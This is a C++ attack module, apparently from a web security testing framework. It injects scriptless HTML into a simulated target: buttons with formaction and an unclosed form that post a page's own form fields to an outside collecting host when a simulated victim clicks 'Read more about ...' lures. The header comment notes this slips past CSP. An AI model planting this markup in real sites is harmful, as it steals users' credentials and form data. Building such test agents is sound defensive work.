// xss-form: leaves a button or a form that sends the page's own fields away when the reader clicks
// what looks like a link. No script is needed (CSP3, form-action, which does not follow
// default-src).
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/session.h"
#include "core/attack/stored_text.h"
#include "core/attack/tags.h"

namespace parapet::attack {
namespace {

class XssForm final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const away = in_quotes(collecting_address(*evil));
        StoredText text(target);
        std::vector<std::string> labels;
        std::string buttons;
        for (std::string const& page : text.pages())
            for (Tag const& tag : tags_in(page))
                if (auto const id = tag.attribute("id"); id && tag.name == "form") {
                    labels.push_back("Read more about " + random_word(target, 5));
                    buttons += "<button form=" + in_quotes(*id) + " formaction=" + away +
                               " formmethod=\"post\">" + labels.back() + "</button>";
                }
        if (!labels.empty()) text.leave(buttons);
        if (!victim_signs_in(target)) return;
        victim_does(target, routines_option(target, option::kDoes));
        for (std::string const& label : labels) click(target, label);
        // A form that stays open: the page's own form within it is none, and its fields are his.
        std::string const label = "Read more about " + random_word(target, 5);
        text.leave("<form method=\"post\" action=" + away + "><button>" + label + "</button>");
        reads_again(target);
        (void)target.victim()->clicks(label);
        try_loot(target, received_texts(target));
    }

    // Where the page with the buttons is gone he comes back to it.
    static void click(Target& target, std::string const& label) {
        if (target.victim()->clicks(label) == Outcome::Done) return;
        reads_again(target);
        (void)target.victim()->clicks(label);
    }

    static void reads_again(Target& target) {
        bool const has_other = !target.option(option::kAgain).empty();
        victim_does(target, routines_option(target, has_other ? option::kAgain : option::kDoes));
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_form() { return std::make_unique<XssForm>(); }

}  // namespace parapet::attack
